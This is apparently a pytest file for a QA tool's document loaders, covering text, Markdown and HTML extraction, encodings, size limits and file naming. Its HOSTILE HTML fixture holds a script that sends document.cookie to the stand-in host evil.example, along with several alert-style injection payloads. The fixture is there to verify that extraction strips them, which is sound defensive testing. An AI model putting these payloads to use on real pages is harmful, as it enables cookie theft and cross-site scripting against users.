"""Loaders: exact text for .txt/.md, trafilatura for .html, and a clear DocumentError for bad files."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from qa import documents
from qa.documents import DocumentError, dated_year, discover, doc_id_for, load_document

ARTICLE = "Headline without a full stop\r\nThe minister\u00a0spoke on Monday. He left.\r\n\r\nA new paragraph.\n"


def test_txt_text_is_the_file_text_exactly_with_crlf_and_nbsp(corpus: Path) -> None:
    path = corpus / "a.txt"
    path.write_bytes(ARTICLE.encode("utf-8"))
    doc = load_document(path, corpus)
    assert doc.text == ARTICLE
    assert doc.doc_id == "a.txt"
    assert doc.title == "Headline without a full stop"
    assert doc.note == ""


def test_markdown_text_is_kept_verbatim_and_title_drops_hashes(corpus: Path) -> None:
    text = "# Big news\n\nSomething *happened* today.\n"
    (corpus / "n.md").write_text(text, encoding="utf-8")
    doc = load_document(corpus / "n.md", corpus)
    assert doc.text == text
    assert doc.title == "Big news"


def test_html_main_text_is_extracted_and_title_read(corpus: Path) -> None:
    html = (
        "<html><head><title>Storm hits coast</title></head><body><article>"
        "<h1>Storm hits coast</h1><p>A strong storm reached the northern coast on Tuesday night, "
        "cutting power to thousands of homes.</p><p>Officials said repairs would take a week.</p>"
        "</article></body></html>"
    )
    (corpus / "s.html").write_text(html, encoding="utf-8")
    doc = load_document(corpus / "s.html", corpus)
    assert "cutting power to thousands of homes" in doc.text
    assert "<p>" not in doc.text
    assert doc.title == "Storm hits coast"


HOSTILE = """<html><head><title>Hostile page</title>
<script>var stolen = document.cookie; fetch('http://evil.example/' + stolen);</script>
<style>body { background: url(javascript:alert('css')) } .secretstyle { color: red }</style>
</head><body>
<iframe src="http://evil.example/frame" onload="alert('iframe')">iframe fallback text</iframe>
<article><h1>Hostile page</h1>
<p>The council approved the new budget after a long debate on Thursday evening in the town hall.</p>
<script>document.write('<p>injected by script</p>'); alert('xss')</script>
<p>The vote passed with twelve members in favour and three against the proposal.</p>
<noscript>enable javascript please</noscript>
<img src=x onerror="alert('img')">
</article>
<script type="application/ld+json">{"@type": "NewsArticle", "secret": "ldjson"}</script>
</body></html>"""


def test_hostile_html_keeps_article_text_and_drops_every_script_style_and_iframe(corpus: Path) -> None:
    (corpus / "h.html").write_text(HOSTILE, encoding="utf-8")
    doc = load_document(corpus / "h.html", corpus)
    assert "council approved the new budget" in doc.text
    assert "twelve members in favour" in doc.text
    for leaked in ("cookie", "evil.example", "alert", "injected by script", "secretstyle",
                   "background", "iframe fallback", "onerror", "ldjson", "<script", "<img"):
        assert leaked not in doc.text, leaked


def test_cp1252_file_is_decoded_with_a_note(corpus: Path) -> None:
    text = "Caf\u00e9 owners said \u201cno\u201d to the plan \u2014 again."
    (corpus / "w.txt").write_bytes(text.encode("cp1252"))
    doc = load_document(corpus / "w.txt", corpus)
    assert doc.text == text
    assert "cp1252" in doc.note


@pytest.mark.parametrize(
    "name, content, reason",
    [
        ("empty.txt", b"", "empty"),
        ("blank.txt", b" \n\t\r\n", "empty"),
        ("binary.txt", bytes(range(256)) * 8, "binary"),
        ("image.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64, "binary"),
        ("sheet.pdf", b"%PDF-1.4 some text", "unsupported file type .pdf"),
        ("noext", b"plain words here.", "unsupported file type (none)"),
        ("empty.html", b"<html><body><script>alert(1)</script></body></html>", "no article text"),
    ],
)
def test_bad_file_raises_document_error_with_reason(corpus: Path, name: str, content: bytes, reason: str) -> None:
    (corpus / name).write_bytes(content)
    with pytest.raises(DocumentError, match=re.escape(reason)):
        load_document(corpus / name, corpus)


def test_file_over_size_limit_is_refused_with_the_limit_in_the_message(
    corpus: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(documents, "MAX_FILE_BYTES", 1000)
    (corpus / "big.txt").write_text("word " * 1000, encoding="utf-8")
    with pytest.raises(DocumentError, match=r"5,000 bytes; the limit is 1,000"):
        load_document(corpus / "big.txt", corpus)


def test_default_size_limit_refuses_a_real_huge_file(corpus: Path) -> None:
    path = corpus / "huge.txt"
    with open(path, "wb") as handle:
        handle.truncate(documents.MAX_FILE_BYTES + 1)  # sparse: nothing is written
    with pytest.raises(DocumentError, match="the limit is"):
        load_document(path, corpus)


@pytest.mark.parametrize("name", ["with space.txt", "üñíçødé – 北京.txt", "quote's \"double\".md", "semi;colon&amp.txt"])
def test_odd_file_names_load_with_the_name_as_id(corpus: Path, name: str) -> None:
    (corpus / name).write_text("Some words. More words.", encoding="utf-8")
    doc = load_document(corpus / name, corpus)
    assert doc.doc_id == name


def test_doc_id_of_a_link_is_the_link_name_not_its_target(corpus: Path) -> None:
    (corpus / "target.txt").write_text("Text.", encoding="utf-8")
    (corpus / "alias.txt").symlink_to("target.txt")
    assert doc_id_for(corpus / "alias.txt", corpus) == "alias.txt"
    sub = corpus / "sub"
    sub.mkdir()
    (sub / "x.txt").write_text("Text.", encoding="utf-8")
    assert doc_id_for(sub / "x.txt", corpus) == "sub/x.txt"


def test_discover_finds_supported_files_sorted_and_skips_hidden(corpus: Path) -> None:
    for name in ("b.txt", "a.md", "c.html", "skip.pdf", ".hidden.txt"):
        (corpus / name).write_text("x", encoding="utf-8")
    (corpus / ".git").mkdir()
    (corpus / ".git" / "inside.txt").write_text("x", encoding="utf-8")
    found = [p.name for p in discover([corpus])]
    assert found == ["a.md", "b.txt", "c.html"]


def test_same_bytes_give_the_same_hash_and_different_bytes_another(corpus: Path) -> None:
    (corpus / "1.txt").write_text("Same text.", encoding="utf-8")
    (corpus / "2.txt").write_text("Same text.", encoding="utf-8")
    (corpus / "3.txt").write_text("Other text.", encoding="utf-8")
    a, b, c = (load_document(corpus / f"{i}.txt", corpus) for i in (1, 2, 3))
    assert a.sha256 == b.sha256 != c.sha256


def test_an_articles_date_is_read_from_its_dateline():
    assert dated_year("Headline\n\nBy Ana Ruiz | Porto, Portugal, Tuesday 17 March 2026\n\nText.") == 2026
    assert dated_year("Headline\n\nLONDON, Feb. 3, 2025 - Text.") == 2025
    assert dated_year("Headline\n\nThe plant opened in 2019.") is None  # a year alone dates nothing
    assert dated_year("Headline\n\n" + "Text. " * 200 + "On 3 March 2024 it shut.") is None  # not near the top
